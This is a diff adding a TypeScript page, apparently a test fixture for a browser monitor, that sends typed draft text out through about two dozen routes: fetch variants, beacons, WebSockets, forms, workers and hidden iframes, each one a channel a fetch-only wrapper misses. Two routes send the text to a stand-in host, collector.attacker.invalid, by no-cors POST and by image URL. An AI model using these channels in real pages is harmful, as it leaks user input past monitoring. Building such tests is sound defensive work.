@@ -1,0 +1,105 @@
+/** A page that saves every draft by one way out, named by `?route=`: the ways a wrapper of fetch alone does not see. */
+
+const route = new URLSearchParams(location.search).get('route') ?? 'fetch';
+const TARGET = '/ces/v1/draft';
+const AWAY = 'https://collector.attacker.invalid/draft';
+
+function frame(attributes: Record<string, string>): HTMLIFrameElement {
+  const made = document.createElement('iframe');
+  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
+  document.body.append(made);
+  return made;
+}
+
+const body = (text: string): string => JSON.stringify({ route, draft: text });
+const query = (text: string): string => `?route=${route}&draft=${encodeURIComponent(text)}`;
+
+function whenLoaded(made: HTMLIFrameElement, act: (inner: typeof globalThis) => void): void {
+  made.addEventListener('load', () => made.contentWindow && act(made.contentWindow as never));
+}
+
+function xhr(kind: typeof XMLHttpRequest, text: string): void {
+  const request = new kind();
+  request.open('POST', TARGET);
+  request.send(body(text));
+}
+
+function submit(text: string, how: 'submit' | 'requestSubmit'): void {
+  const sink = frame({ name: 'sink', hidden: '' });
+  const form = document.createElement('form');
+  Object.assign(form, { action: TARGET, method: 'post', target: sink.name });
+  const field = document.createElement('input');
+  Object.assign(field, { name: 'draft', value: text });
+  form.append(field);
+  document.body.append(form);
+  form[how]();
+}
+
+function fromWorker(text: string): void {
+  const code = `fetch(${JSON.stringify(location.origin + TARGET)},{method:'POST',body:${JSON.stringify(body(text))}})`;
+  new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
+}
+
+const ROUTES: Record<string, (text: string) => void> = {
+  fetch: (text) => void fetch(TARGET, { method: 'POST', body: body(text) }),
+  request: (text) => void fetch(new Request(TARGET, { method: 'POST', body: body(text) })),
+  keepalive: (text) => void fetch(TARGET, { method: 'POST', keepalive: true, body: new Blob([body(text)]) }),
+  bytes: (text) => void fetch(TARGET, { method: 'POST', body: new TextEncoder().encode(body(text)) }),
+  form: (text) => {
+    const data = new FormData();
+    data.set('draft', text);
+    void fetch(TARGET, { method: 'POST', body: data });
+  },
+  params: (text) => void fetch(TARGET, { method: 'POST', body: new URLSearchParams({ draft: text }) }),
+  base64: (text) => void fetch(TARGET, { method: 'POST', body: btoa(unescape(encodeURIComponent(body(text)))) }),
+  header: (text) => void fetch(TARGET, { headers: { 'X-Draft': encodeURIComponent(text) } }),
+  url: (text) => void fetch(TARGET + query(text)),
+  away: (text) => void fetch(AWAY, { method: 'POST', mode: 'no-cors', body: body(text) }),
+  beacon: (text) => void navigator.sendBeacon(TARGET, body(text)),
+  xhr: (text) => xhr(XMLHttpRequest, text),
+  socket: (text) => {
+    const socket = new WebSocket(`wss://${location.host}/ws`);
+    socket.onopen = () => socket.send(body(text));
+  },
+  'socket-bytes': (text) => {
+    const socket = new WebSocket(`wss://${location.host}/ws`);
+    socket.onopen = () => socket.send(new TextEncoder().encode(body(text)));
+  },
+  'event-source': (text) => void new EventSource(TARGET + query(text)),
+  image: (text) => void (new Image().src = AWAY + query(text)),
+  submit: (text) => submit(text, 'submit'),
+  'request-submit': (text) => submit(text, 'requestSubmit'),
+  worker: fromWorker,
+  blank: (text) => {
+    const inner = frame({ hidden: '' }).contentWindow as (Window & typeof globalThis) | null;
+    void inner?.fetch(location.origin + TARGET, { method: 'POST', body: body(text) });
+  },
+  'blank-xhr': (text) => {
+    const inner = frame({ hidden: '' }).contentWindow as (Window & typeof globalThis) | null;
+    if (inner) xhr(inner.XMLHttpRequest, text);
+  },
+  srcdoc: (text) => {
+    whenLoaded(frame({ srcdoc: '<p>', hidden: '' }), (inner) => void inner.fetch(TARGET, { method: 'POST', body: body(text) }));
+  },
+  blob: (text) => {
+    const url = URL.createObjectURL(new Blob(['<p>'], { type: 'text/html' }));
+    const made = frame({ src: url, hidden: '' });
+    whenLoaded(made, (inner) => void inner.fetch(location.origin + TARGET, { method: 'POST', body: body(text) }));
+  },
+};
+
+let timer: ReturnType<typeof setTimeout> | undefined;
+document.addEventListener('input', (event) => {
+  const box = event.target;
+  clearTimeout(timer);
+  timer = setTimeout(() => {
+    const text = box instanceof HTMLTextAreaElement ? box.value : box instanceof HTMLElement ? box.innerText : '';
+    if (text.trim() === '') return;
+    try {
+      ROUTES[route]?.(text);
+    } catch {
+      document.documentElement.dataset['refused'] = 'true';
+    }
+    document.documentElement.dataset['saved'] = String(Number(document.documentElement.dataset['saved'] ?? 0) + 1);
+  }, 120);
+});
